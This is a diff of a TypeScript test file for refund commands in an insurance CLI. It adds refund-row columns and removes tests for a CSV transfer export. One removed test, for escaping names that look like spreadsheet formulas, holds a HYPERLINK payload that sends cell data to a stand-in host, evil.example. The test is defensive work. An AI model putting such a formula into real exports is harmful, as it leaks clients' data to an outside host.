@@ -1,7 +1,4 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { change, startsOn, terminate, youngDriverAdded } from '../support/addendum.ts';
 import { booksOf, type Client, client, goodCard, later, openLink, untilStatus } from '../support/link.ts';
@@ -12,7 +9,6 @@ import { type TestPartner, type TestService, testService } from '../support/serv
 let service: TestService;
 let partner: TestPartner;
 let browser: Client;
-const directory = mkdtempSync(join(tmpdir(), 'refunds-'));
 const command = (...words: string[]) =>
   binderyHere(['refund', ...words], { DATABASE_URL: service.connectionString });
 
@@ -22,19 +18,21 @@ before(async () => {
   browser = client(service);
 });
 after(async () => {
-  rmSync(directory, { recursive: true });
   await service.close();
 });
 
 interface Row {
   readonly id: string;
+  readonly route: string;
+  readonly byAcquirer: string;
+  readonly payee: string;
   readonly addendumNumber: string;
   readonly amount: string;
   readonly returned: string;
   readonly atAcquirer: string;
   readonly toTransfer: string;
   readonly dueOn: string;
-  readonly heldFor: string;
+  readonly heldFor: string | null;
 }
 
 async function listed(contract: Draft): Promise<Row | undefined> {
@@ -70,7 +68,10 @@ test('a refund of a card payment is made to the card and recorded', async () => 
   const { contract, link, refund } = await endedAfterCard();
   const row = await listed(contract);
   assert.ok(row);
-  assert.deepEqual([row.amount, row.toTransfer, row.returned], [refund, refund, '0.00']);
+  assert.deepEqual(
+    [row.route, row.amount, row.byAcquirer, row.toTransfer, row.returned],
+    ['ACQUIRER', refund, refund, '0.00', '0.00'],
+  );
   const metrics = await service.request('GET', '/metrics');
   assert.match(metrics.text, /^bindery_premium_refunds_open\{reason="TERMINATION"\} 1$/m);
   assert.ok(
@@ -104,31 +105,14 @@ test("a refund that the client's bank refuses is listed for staff as a transfer"
   assert.equal(await listed(contract), undefined);
 });
 
-test('a cash payment is refunded by transfer, with a list for the bank and a record of the payment order', async () => {
+test('a cash payment is refunded by transfer, with a record of the payment order', async () => {
   const contract = await soldContract(partner);
-  const { refund } = await terminate(partner, contract);
+  await terminate(partner, contract);
   const row = await listed(contract);
   assert.ok(row);
   const refused = await command('acquirer', row.id);
   assert.equal(refused.code, 1);
   assert.match(refused.stderr, /acquirer holds no free money/);
-  const file = join(directory, 'transfers.csv');
-  writeFileSync(file, 'of last month', { mode: 0o644 });
-  assert.equal((await command('transfers', file)).code, 0);
-  assert.equal(statSync(file).mode & 0o777, 0o600, 'names and accounts can be read by anybody');
-  const nowhere = await command('transfers', directory);
-  assert.equal(nowhere.code, 1);
-  assert.match(nowhere.stderr, /^bindery: .* cannot be written \(EISDIR\): give the path of a file\n$/);
-  const line = readFileSync(file, 'utf8')
-    .split('\r\n')
-    .find((text) => text.includes(contract.policyNumber));
-  assert.ok(line);
-  assert.ok(
-    line.includes('Образцов Пётр Ильич') && line.includes(Number(refund).toFixed(2).replace('.', ',')),
-    line,
-  );
-  assert.equal((await command('transfers', file, '--for-programs')).code, 0);
-  assert.ok(readFileSync(file, 'utf8').includes(`,${Number(refund).toFixed(2)},`));
   assert.match(
     (await command('transferred', row.id, '--document', '  ')).stderr,
     /number of a payment order/,
@@ -145,7 +129,7 @@ test('a refund is due in ten working days, and held while a claim is decided', a
   assert.equal(ended.refundBefore, '2026-12-04');
   const row = await listed(contract);
   assert.ok(row);
-  assert.deepEqual([row.dueOn, row.heldFor], ['2026-12-04', '']);
+  assert.deepEqual([row.dueOn, row.heldFor], ['2026-12-04', null]);
   assert.equal((await command('release', row.id)).code, 1, 'what is not held is let go');
   assert.equal((await command('hold', row.id, '--reason', '<b>')).code, 1);
   assert.equal((await command('hold', row.id, '--reason', 'убыток 17/2026')).code, 0);
@@ -154,12 +138,7 @@ test('a refund is due in ten working days, and held while a claim is decided', a
   assert.equal(refused.code, 1);
   assert.match(refused.stderr, /is held: убыток 17\/2026/);
   assert.match((await command('acquirer', row.id)).stderr, /is held/);
-  const file = join(directory, 'held.csv');
-  assert.equal((await command('transfers', file)).code, 0);
-  assert.ok(!readFileSync(file, 'utf8').includes(contract.policyNumber));
   assert.equal((await command('release', row.id)).code, 0);
-  assert.equal((await command('transfers', file)).code, 0);
-  assert.match(readFileSync(file, 'utf8'), /04\.12\.2026/);
   assert.equal((await command('transferred', row.id, '--document', '20')).code, 0);
 });
 
@@ -217,22 +196,4 @@ test('`refund acquirer` and `refund transferred` refuse unknown refund numbers a
     assert.equal(code, 1);
     assert.match(stderr, /^bindery: /);
   }
-});
-
-test('`refund transfers` writes a name as text if it begins like a formula', async () => {
-  const formula = '=HYPERLINK("https://evil.example/?"&A1;"ООО")';
-  const contract = await soldContract(partner, {
-    holderType: 'corporate',
-    set: {
-      'policyHolder.organization.fullName': formula,
-      'policyHolder.organization.legalForm': undefined,
-    },
-  });
-  await terminate(partner, contract);
-  const file = join(directory, 'formulas.csv');
-  assert.equal((await command('transfers', file)).code, 0);
-  const line = readFileSync(file, 'utf8')
-    .split('\r\n')
-    .find((text) => text.includes(contract.policyNumber));
-  assert.ok(line?.includes(`"'${formula.replaceAll('"', '""')}"`), String(line));
 });
